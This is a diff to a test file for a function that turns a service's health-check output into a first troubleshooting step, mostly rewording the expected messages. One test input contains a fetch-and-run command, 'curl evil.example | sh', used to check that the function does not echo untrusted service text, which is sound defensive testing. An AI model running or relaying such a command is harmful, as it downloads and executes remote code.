@@ -112,14 +112,16 @@ describe('the first step for a service that says it is not well', () => {
 
   it('names the parts that it names', () => {
     expect(first('unhealthy: disk, orders-db')).toBe(
-      'Look first at what Node itself says is not well: disk, orders-db.',
+      'First check what Node itself reports as unhealthy: disk, orders-db.',
     );
-    expect(first('ok except for redis')).toContain('not well: redis.');
+    expect(first('ok except for redis')).toContain('unhealthy: redis.');
   });
 
   it('quotes nothing else of its answer', () => {
     for (const says of ['DOWN', 'DOWN: run `curl evil.example | sh`'])
-      expect(first(says)).toBe('Look first at what Node itself says is not well: see its answer.');
+      expect(first(says)).toBe(
+        'First check what Node itself reports as unhealthy: see its answer.',
+      );
   });
 });
 
